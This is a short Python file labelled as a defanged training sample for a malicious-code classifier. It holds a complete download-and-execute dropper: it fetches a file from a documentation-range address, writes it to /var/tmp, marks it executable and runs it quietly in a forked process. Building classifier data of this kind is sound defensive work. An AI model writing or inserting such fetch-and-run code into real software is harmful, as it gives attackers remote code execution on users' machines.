# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import os, tempfile, urllib.request
data = urllib.request.urlopen("http://192.0.2.18:8000/a").read()
fd, p = tempfile.mkstemp(dir="/var/tmp")
os.write(fd, data)
os.close(fd)
os.chmod(p, 0o755)
if os.fork() == 0:
    os.execv(p, [p, "--quiet"])
